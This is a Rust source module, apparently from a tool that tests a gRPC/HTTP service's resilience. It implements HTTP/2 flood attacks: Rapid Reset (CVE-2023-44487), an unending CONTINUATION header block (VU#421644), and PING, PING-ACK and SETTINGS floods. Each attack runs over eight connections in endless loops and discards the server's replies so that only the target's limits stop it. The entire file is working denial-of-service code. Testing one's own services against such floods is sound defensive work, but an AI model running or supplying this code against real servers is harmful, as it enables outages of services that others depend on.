//! Floods of frames that cost the sender almost nothing.

use std::io::Result;
use std::net::SocketAddr;

use tokio::io::{AsyncReadExt, AsyncWriteExt};

use super::crowd::{Attacking, crowd};
use crate::frames::{WINDOW, call, flag, frame, kind};
use crate::peer::{connect_h2, source};
use crate::stream::Stream;
use crate::target::Target;

const CONNECTIONS: u32 = 8;
/// Frames in one write.
const FRAMES: u32 = 1000;

/// Streams that are opened and reset, again and again (CVE-2023-44487).
pub(super) fn rapid_reset(target: Target) -> Attacking {
    reset_streams(target.grpc)
}

/// Opens streams of calls and resets them.
pub(super) fn reset_streams(to: SocketAddr) -> Attacking {
    crowd(CONNECTIONS, move |number| async move {
        let mut stream = connect_h2(source(number), to, WINDOW).await?;
        let block = call(&[]);
        let mut id = 1;
        loop {
            let mut out = Vec::new();
            for _ in 0..FRAMES {
                frame(&mut out, kind::HEADERS, flag::END_HEADERS, id, &block);
                // 8: CANCEL.
                frame(&mut out, kind::RST_STREAM, flag::NONE, id, &[0, 0, 0, 8]);
                id += 2;
            }
            send(&mut stream, &out).await?;
        }
    })
}

/// A header block that never ends (CERT VU#421644).
pub(super) fn continuations(target: Target) -> Attacking {
    continue_headers(target.grpc)
}

/// Continues a header block without an end.
pub(super) fn continue_headers(to: SocketAddr) -> Attacking {
    crowd(CONNECTIONS, move |number| async move {
        let mut stream = connect_h2(source(number), to, WINDOW).await?;
        let mut out = Vec::new();
        frame(&mut out, kind::HEADERS, flag::NONE, 1, &call(&[]));
        let more = call(&[(b"x", &[b'x'; 1000])]);
        for _ in 0..FRAMES {
            frame(&mut out, kind::CONTINUATION, flag::NONE, 1, &more[3..]);
        }
        loop {
            send(&mut stream, &out).await?;
        }
    })
}

/// Pings, each of which must be answered.
pub(super) fn pings(target: Target) -> Attacking {
    send_pings(target.grpc)
}

/// The same to the listener for HTTP, which also speaks HTTP/2.
pub(super) fn pings_to_http(target: Target) -> Attacking {
    send_pings(target.http)
}

/// Sends pings without a pause.
pub(super) fn send_pings(to: SocketAddr) -> Attacking {
    repeat(to, kind::PING, flag::NONE, &[7; 8])
}

/// Answers to pings that were never sent.
pub(super) fn pongs(target: Target) -> Attacking {
    repeat(target.grpc, kind::PING, flag::ACK, &[7; 8])
}

/// Settings, each of which must be applied and acknowledged.
pub(super) fn settings(target: Target) -> Attacking {
    send_settings(target.grpc)
}

/// The same to the listener for HTTP.
pub(super) fn settings_to_http(target: Target) -> Attacking {
    send_settings(target.http)
}

/// Sends settings without a pause.
pub(super) fn send_settings(to: SocketAddr) -> Attacking {
    repeat(to, kind::SETTINGS, flag::NONE, &[0, 4, 0, 0, 0xff, 0xff])
}

fn repeat(to: SocketAddr, kind: u8, flags: u8, payload: &'static [u8]) -> Attacking {
    crowd(CONNECTIONS, move |number| async move {
        let mut stream = connect_h2(source(number), to, WINDOW).await?;
        let mut out = Vec::new();
        for _ in 0..FRAMES {
            frame(&mut out, kind, flags, 0, payload);
        }
        loop {
            send(&mut stream, &out).await?;
        }
    })
}

/// Writes everything and discards what arrives meanwhile, so that only the service's bounds stop
/// it.
pub(super) async fn send(stream: &mut Stream, bytes: &[u8]) -> Result<()> {
    let (mut read, mut write) = stream.split();
    let mut scrap = [0; 16 * 1024];
    let writing = write.write_all(bytes);
    tokio::pin!(writing);
    loop {
        tokio::select! {
            wrote = &mut writing => return wrote,
            got = read.read(&mut scrap) => if got? == 0 {
                return Err(std::io::ErrorKind::UnexpectedEof.into());
            },
        }
    }
}
